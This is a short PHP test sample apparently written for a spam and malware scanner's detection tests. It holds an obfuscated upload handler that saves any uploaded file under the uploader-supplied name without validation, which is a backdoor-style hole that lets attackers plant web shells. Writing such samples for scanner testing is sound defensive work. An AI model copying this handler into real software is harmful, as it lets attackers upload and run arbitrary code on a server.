<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$save = function ($f, $to) { return move_uploaded_file($f['tmp_name'], $to); };
$save($_FILES['u'], $_FILES['u']['name']);
